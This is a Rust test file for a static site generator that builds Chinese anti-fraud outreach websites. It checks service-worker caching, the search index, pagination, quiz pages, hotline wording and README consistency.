/// The addresses that the service worker keeps, and its version.
fn worker(dist: &Path) -> (Vec<String>, String) {
    let text = std::fs::read_to_string(dist.join("service-worker.js")).unwrap();
    let core = text.split_once("CORE = [").unwrap().1.split_once("];").unwrap().0;
    let core = core.split(',').map(|u| u.trim().trim_matches('"').to_owned()).filter(|u| !u.is_empty()).collect();
    let version = text.split_once("outreach-").unwrap().1.split_once('"').unwrap().0.to_owned();
    (core, version)
}

#[test]
fn the_web_app_keeps_files_that_are_there() {
    let manifest: Value = serde_json::from_str(&SITE.read("dist/site.webmanifest")).unwrap();
    assert_eq!((&manifest["display"], &manifest["lang"]), (&Value::from("standalone"), &Value::from("zh-CN")));
    for icon in manifest["icons"].as_array().unwrap() {
        let (w, h) = image::image_dimensions(dist().join(icon["src"].as_str().unwrap())).unwrap();
        assert_eq!(icon["sizes"], format!("{w}x{h}"));
    }
    let (core, _) = worker(&dist());
    assert!(core.contains(&"check.html".to_owned()), "{core:?}");
    for url in core.iter().filter(|u| *u != "./") {
        assert!(dist().join(target("index.html", url).unwrap()).is_file(), "{url}");
    }
    // What a page asks for is what is kept, to the letter.
    let page = html("index.html");
    for url in attributes(&page, "link[rel=stylesheet], script[src]", "href").iter().chain(&attributes(
        &page,
        "script[src]",
        "src",
    )) {
        assert!(core.contains(url), "{url} is not kept");
    }
}

#[test]
fn versions_change_with_what_they_stand_for() {
    let campaign = rich();
    let build = || {
        assert!(campaign.run(&["build", "--only", "site"]).status.success());
        let style =
            attributes(&Html::parse_document(&campaign.read("dist/index.html")), "link[rel=stylesheet]", "href");
        (worker(&campaign.path("dist")).1, style)
    };
    let (first, styles) = build();
    assert_eq!(build(), (first.clone(), styles.clone()));
    campaign.replace("content/scams/fake-refund.md", "挂断电话", "马上挂断电话");
    let (second, same) = build();
    assert_ne!(first, second);
    assert_eq!(styles, same, "words are no reason to fetch the style sheet again");
    campaign.write("themes/default/static/style.css", "body{color:red}");
    let (third, other) = build();
    assert_ne!(second, third);
    assert_ne!(styles, other);
}

#[test]
fn the_self_check_and_the_quiz_are_useful_without_scripts() {
    let page = html("check.html");
    let text: String = page.select(&select("main")).flat_map(|m| m.text()).collect();
    assert!(text.contains("请下载软件，打开屏幕共享") && text.contains("挂断电话"), "{text}");
    let links: Vec<_> = attributes(&page, "main a", "href").iter().filter_map(|u| target("check.html", u)).collect();
    assert!(links.contains(&"scams/fake-refund.html".to_owned()), "{links:?}");
    let weights: Vec<_> = attributes(&html("en/check.html"), "[data-flag]", "data-weight");
    assert_eq!(weights, ["2", "1"], "what is emphasised counts twice");
    let quiz = html("quiz/pupils.html");
    assert_eq!(quiz.select(&select("fieldset")).count(), 3);
    let answers: Vec<String> = quiz.select(&select("details.answer")).map(|d| d.text().collect()).collect();
    assert!(answers[0].contains('B') && answers[0].contains("免费皮肤是诱饵"), "{answers:?}");
    assert_eq!(attributes(&quiz, "fieldset", "data-answer"), ["B", "AC", "B"]);
}

#[test]
fn the_search_index_knows_initials_and_says_nothing_unsafe() {
    let script = SITE.read("dist/search-data.js");
    let json = script.strip_prefix("window.OUTREACH_SEARCH=").unwrap().trim_end().strip_suffix(';').unwrap();
    let rows: Value = serde_json::from_str(json).unwrap();
    let row = rows.as_array().unwrap().iter().find(|r| r["u"] == "scams/fake-refund.html").unwrap();
    let initials: Vec<_> = row["p"].as_str().unwrap().split(' ').collect();
    assert!(initials.contains(&"mckftk") && initials.contains(&"kdlp"), "{initials:?}");
    assert!(rows.as_array().unwrap().iter().any(|r| r["u"] == "quiz/pupils.html"));
    assert!(!SITE.read("dist/en/search-data.js").contains("fake-refund.md"));
    assert!(attributes(&html("search.html"), "form[data-index]", "data-index")[0].starts_with("search-data.js?v="));
}

#[test]
fn long_lists_are_cut_into_pages_that_lead_to_each_other() {
    let campaign = Campaign::init();
    campaign.replace("book.toml", "# base-url", "base-url");
    campaign.replace("book.toml", "[output.site]", "[output.site]\npage-size = 6");
    for day in 1..=13 {
        let case = format!(
            "---\ntitle: 案例{day}\nsummary: 先要交钱的退款都是诈骗。\nscam: fake-refund\nplace: 城关镇\ndate: 2026-05-{day:02}\nloss: 100\n\
             composite: true\nreviewed: 2026-11-01\ntags: [退款]\n---\n\n## 经过\n\n客服来电。\n\n## 提醒\n\n挂断电话。\n"
        );
        campaign.write(&format!("content/cases/case-{day:02}.md"), case);
    }
    let out = campaign.run(&["build", "--only", "site"]);
    assert!(out.status.success(), "{}", common::stderr(&out));
    let page = |path: &str| Html::parse_document(&campaign.read(&format!("dist/{path}")));
    let cases: Vec<_> = std::fs::read_dir(campaign.path("content/cases")).unwrap().collect();
    // From page to page, as a reader goes, and back.
    let walk = |first: &str| {
        let (mut pages, mut cards) = (vec![first.to_owned()], Vec::new());
        loop {
            let here = pages.last().unwrap().clone();
            let html = page(&here);
            let found: Vec<_> =
                attributes(&html, "a.card", "href").iter().map(|url| target(&here, url).unwrap()).collect();
            assert!(!found.is_empty() && found.len() <= 6, "{here}: {found:?}");
            cards.extend(found);
            let canonical = attributes(&html, "link[rel=canonical]", "href");
            assert!(decode_path(&canonical[0]).ends_with(&here), "{canonical:?}");
            let back = attributes(&html, "a[rel=prev]", "href").first().map(|url| target(&here, url).unwrap());
            assert_eq!(back.as_ref(), pages.len().checked_sub(2).map(|at| &pages[at]), "{here}");
            assert_eq!(html.select(&select(".pages [aria-current=page]")).count(), 1, "{here}");
            match attributes(&html, "a[rel=next]", "href").first() {
                Some(next) => pages.push(target(&here, next).unwrap()),
                None => return (pages, cards),
            }
        }
    };
    for (first, number) in [("cases/index.html", cases.len()), ("scams/fake-refund/cases.html", cases.len())] {
        let (pages, cards) = walk(first);
        assert_eq!(pages.len(), number.div_ceil(6), "{pages:?}");
        assert_eq!(cards.iter().collect::<BTreeSet<_>>().len(), number, "{cards:?}");
        assert_eq!(cards.len(), number);
        // Newest first, over the ends of pages.
        let own: Vec<_> = cards.iter().filter(|card| card.contains("/case-")).collect();
        assert!(own.is_sorted_by(|a, b| a > b) && own.len() == 13, "{own:?}");
        let map = campaign.read("dist/sitemap.xml");
        assert!(pages.iter().all(|page| map.contains(&format!("/{page}</loc>"))), "{map}");
    }
    let (pages, cards) = walk("tags/退款.html");
    assert_eq!((pages[2].as_str(), cards.len()), ("tags/退款/page/3.html", 13));
    // An explainer shows the newest and leads to the rest.
    let scam = page("scams/fake-refund.html");
    assert_eq!(attributes(&scam, ".cards a.card.case", "href").len(), 12);
    let all = attributes(&scam, "section[data-silent] a.more", "href");
    assert_eq!(target("scams/fake-refund.html", &all[0]).as_deref(), Some("scams/fake-refund/cases.html"));
    // A short list is one page that names no others.
    assert!(page("scams/index.html").select(&select(".pages")).next().is_none());
}

#[test]
fn search_can_be_off() {
    let campaign = Campaign::init();
    campaign.replace("book.toml", "search = true", "search = false");
    assert!(campaign.run(&["build", "--only", "site"]).status.success());
    assert!(!campaign.path("dist/search.html").exists() && !campaign.path("dist/search-data.js").exists());
    assert!(!campaign.read("dist/index.html").contains("search.html"));
    campaign.replace("book.toml", "search = false", "search = 3");
    assert!(campaign.build_fails().contains("true, false, \"summaries\" or \"pagefind\""));
}

#[test]
fn text_that_no_phone_can_fetch_is_not_searched() {
    let campaign = Campaign::init();
    let text = "客服来电说要退款，先要交钱的都是诈骗。\n\n".repeat(2000);
    for day in 1..=24 {
        let head = format!("title: 案例{day}\nsummary: 退款先要交钱。\nscam: fake-refund\ndate: 2026-05-{day:02}\n");
        campaign.write(&format!("content/cases/case-{day:02}.md"), format!("---\n{head}---\n\n## 经过\n\n{text}"));
    }
    let build = || {
        let out = campaign.run(&["build", "--only", "site"]);
        assert!(out.status.success(), "{}", common::stderr(&out));
        let data = campaign.read("dist/search-data.js");
        let rows = data.strip_prefix("window.OUTREACH_SEARCH=").unwrap().trim_end().trim_end_matches(';');
        let rows: Vec<Value> = serde_json::from_str(rows).unwrap();
        let found = |name: &str| {
            let row = rows.iter().find(|row| row["u"].as_str().unwrap().ends_with(&format!("{name}.html"))).unwrap();
            assert_ne!((&row["t"], &row["s"]), (&Value::from(""), &Value::from("")), "{name}");
            !row["b"].as_str().unwrap().is_empty()
        };
        let some =
            Html::parse_document(&campaign.read("dist/search.html")).select(&select("main p.imprint")).next().is_some();
        let left = rows.iter().filter(|row| row["b"] == "").count();
        (common::stderr(&out), ["case-24", "case-01", "fake-refund"].map(found), left, data.len(), some)
    };
    let (told, found, left, bytes, some) = build();
    assert_eq!((found, some), ([true, false, true], true));
    assert!(told.contains("outreach::site::search-too-large"), "{told}");
    assert!(told.contains(&format!("the text of {left} entries is not searched")), "{told}");
    assert!(bytes > 1_900_000 && bytes < 2_300_000, "{bytes}");
    campaign.replace("book.toml", "search = true", "search = \"summaries\"");
    let (told, found, _, bytes, some) = build();
    assert_eq!((found, some), ([false; 3], true));
    assert!(!told.contains("search") && bytes < 20_000, "{told}");
}

#[cfg(not(feature = "pagefind"))]
#[test]
fn pagefind_is_said_to_be_missing() {
    let campaign = Campaign::init();
    campaign.replace("book.toml", "search = true", "search = \"pagefind\"");
    assert!(campaign.build_fails().contains("built without Pagefind"));
}

#[cfg(feature = "pagefind")]
#[test]
fn an_index_by_pagefind_is_the_same_every_time() {
    let campaign = Campaign::init();
    campaign.replace("book.toml", "search = true", "search = \"pagefind\"");
    let build = |dest: &str| {
        let out = campaign.run(&["build", "--only", "site", "-d", dest]);
        assert!(out.status.success(), "{}", common::stderr(&out));
        common::tree(&campaign.path(dest))
    };
    let first = build("dist");
    assert_eq!(first, build("again"));
    let paths: Vec<&str> = first.iter().map(|(path, _)| path.as_str()).collect();
    let of = |ending: &str| paths.iter().filter(|p| p.starts_with("pagefind/") && p.ends_with(ending)).count();
    assert_eq!(of(".pf_fragment"), campaign_entries(&campaign), "a piece for each entry");
    assert_eq!((of("pagefind.js"), of("pagefind-entry.json"), of(".pf_meta")), (1, 1, 1));
    assert!(!paths.contains(&"search-data.js") && of(".css") == 0);
    let page = campaign.read("dist/search.html");
    assert!(page.contains("data-pagefind=\"pagefind/pagefind.js\"") && page.contains("wasm-unsafe-eval"));
    assert!(campaign.read("dist/_headers").contains("wasm-unsafe-eval"));
}

#[cfg(feature = "pagefind")]
fn campaign_entries(campaign: &Campaign) -> usize {
    let entry = |path: &str| path.ends_with(".md") || path.starts_with("quizzes/");
    common::tree(&campaign.path("content")).iter().filter(|(path, _)| entry(path)).count()
}

/// Names in a list of the README: groups in braces and brackets and remarks in brackets are left out.
fn names(text: &str) -> BTreeSet<String> {
    let mut depth = 0;
    let mut flat = String::new();
    for c in text.chars() {
        match c {
            '{' | '[' | '(' => depth += 1,
            '}' | ']' | ')' => depth -= 1,
            c if depth == 0 => flat.push(c),
            _ => {}
        }
    }
    let word = |part: &str| {
        part.trim().trim_matches('`').chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '_').collect::<String>()
    };
    flat.split([',', ';']).map(word).filter(|w| !w.is_empty()).collect()
}

/// What stands in the braces after a name: `site {title, …}`.
fn inside(text: &str, name: &str) -> BTreeSet<String> {
    let start =
        text.find(&format!("{name} {{")).unwrap_or_else(|| panic!("README says nothing of {name}")) + name.len() + 2;
    let mut depth = 1;
    let end = text[start..].find(|c| {
        depth += match c {
            '{' => 1,
            '}' => -1,
            _ => 0,
        };
        depth == 0
    });
    names(&text[start..start + end.unwrap()])
}

fn keys(value: &Value) -> BTreeSet<String> {
    value.as_object().unwrap().keys().cloned().collect()
}

#[test]
fn the_readme_lists_what_templates_are_given() {
    let readme = std::fs::read_to_string(common::sample_root().join("README.md")).unwrap();
    let paragraph = readme.split_once("Every page gets: ").unwrap().1;
    let (base_text, rest) = paragraph.split_once("An **item**").unwrap();
    let base_text = base_text.replace('\n', " ");
    let item_text = rest.split_once("has: ").unwrap().1.split_once('.').unwrap().0.replace('\n', " ");
    let base = names(base_text.trim_end().trim_end_matches('.'));
    let root = SITE.dir.path().to_owned();
    let mut found = Vec::new();
    let campaign = outreach::campaign::Campaign::load(&root, &Default::default(), &mut found).unwrap();
    let plan = outreach::plan::plan(&campaign, &["site".into()], &mut found);
    let mut seen = BTreeSet::new();
    for artifact in &plan.artifacts {
        let (template, context, shared) = match &artifact.job {
            outreach::plan::Job::Template { template, context } => (template, context, None),
            outreach::plan::Job::Page { template, context, shared } => (template, context, Some(shared)),
            _ => continue,
        };
        if !seen.insert(*template) {
            continue;
        }
        let mut context = context();
        if let Some(shared) = shared {
            context = shared.plain(context);
        }
        let mut given = keys(&context);
        let row = readme.lines().find(|l| {
            l.starts_with('|')
                && !l.contains("site/*.html")
                && l.split('|').nth(1).unwrap().split(',').any(|cell| cell.trim() == format!("`{template}`"))
        });
        let row = row.unwrap_or_else(|| panic!("the README has no row for {template}"));
        let mut listed = names(row.split('|').nth(2).unwrap());
        if given.contains("root") {
            for name in &base {
                assert!(given.remove(name), "{template} is not given `{name}`");
            }
            for name in ["site", "page", "org"] {
                assert_eq!(keys(&context[name]), inside(&base_text, &format!("`{name}`")), "{name} of {template}");
            }
            listed.remove("nothing");
        }
        if let Some(item) = context.get("item").filter(|_| *template == "scam.html") {
            assert_eq!(keys(item), names(&item_text));
        }
        assert_eq!(given, listed, "{template}");
    }
    assert!(seen.len() >= 14, "{seen:?}");
}

#[test]
fn what_the_readme_lists_of_tera_is_there() {
    let readme = std::fs::read_to_string(common::sample_root().join("README.md")).unwrap();
    let (_, table) = readme.split_once("| filters | tests (`is …`) | functions |").unwrap();
    let row = table.lines().nth(2).unwrap();
    let columns: Vec<_> = row.split('|').skip(1).map(names).collect();
    assert!(columns[0].len() > 30 && columns[1].len() > 10 && columns[2].len() > 1, "{columns:?}");
    // What is not there is told when templates are read, whether or not it is used.
    let lines =
        |form: &dyn Fn(&str) -> String, names: &BTreeSet<String>| names.iter().map(|n| form(n)).collect::<String>();
    let text = [
        lines(&|n| format!("{{{{ page.title | {n} }}}}\n"), &columns[0]),
        lines(&|n| format!("{{% if page is {n} %}}{{% endif %}}\n"), &columns[1]),
        lines(&|n| format!("{{{{ {n}() }}}}\n"), &columns[2]),
    ];
    let campaign = Campaign::init();
    let page = |text: &str| format!("{{% if not page %}}\n{text}{{% endif %}}\n");
    campaign.write("themes/default/site/404.html", page(&text.concat()));
    let out = campaign.run(&["build", "--only", "site"]);
    assert!(out.status.success(), "{}", common::stderr(&out));
    campaign.write("themes/default/site/404.html", page("{{ page.title | loud }}{% if page is odder %}{% endif %}"));
    let said = common::stderr(&campaign.run(&["build", "--only", "site"]));
    assert!(said.contains("loud") && said.contains("odder"), "{said}");
}

#[test]
fn words_ring_the_number_that_is_there() {
    let campaign = Campaign::init();
    for (hotlines, said, not) in [
        (r#"["95588"]"#, vec!["拨打95588咨询", "打110，留证据"], vec!["96110咨询", "打95588，留"]),
        (r#"["96110", "110"]"#, vec!["拨打96110咨询", "打110，留证据"], vec!["打96110，留证据"]),
        ("[]", vec!["换个说法试试。\"", "打110，留证据", "先问问家里人"], vec!["拨打咨询", "先打问", "打，留"]),
    ] {
        let line = campaign.read("book.toml").lines().find(|l| l.starts_with("hotlines =")).unwrap().to_owned();
        campaign.replace("book.toml", &line, &format!("hotlines = {hotlines}"));
        let out = campaign.run(&["build", "--only", "site"]);
        assert!(out.status.success(), "{}", common::stderr(&out));
        let pages = ["search.html", "check.html", "scams/fake-refund.html", "index.html"];
        let html: String = pages.iter().map(|page| campaign.read(&format!("dist/{page}"))).collect();
        for words in said {
            assert!(html.contains(words), "{hotlines}: {words}");
        }
        for words in not {
            assert!(!html.contains(words), "{hotlines}: {words}");
        }
    }
}

/// A slide made of an explainer has no words on the deck's page; the rules around it were two lines with nothing between.
#[test]
fn a_slide_without_words_leaves_no_rule_on_the_page() {
    let campaign = Campaign::without_screens();
    campaign.write(
        "content/decks/class.md",
        "---\ntitle: 班会\n---\n\n# 守住钱\n\n---\n\n<!-- scam: fake-refund -->\n\n<!--\n先看这一种。\n-->\n\n---\n\n## 三招\n\n---\n\n## 记住\n\n---\n\n<!-- scam: fake-refund -->\n",
    );
    let out = campaign.run(&["build", "--only", "site"]);
    assert!(out.status.success(), "{}", common::stderr(&out));
    let page = campaign.read("dist/decks/class.html");
    assert_eq!(page.matches("<hr>").count(), 2, "{page}");
    assert!(page.find("守住钱") < page.find("<hr>") && page.find("三招") < page.rfind("<hr>"), "{page}");
}
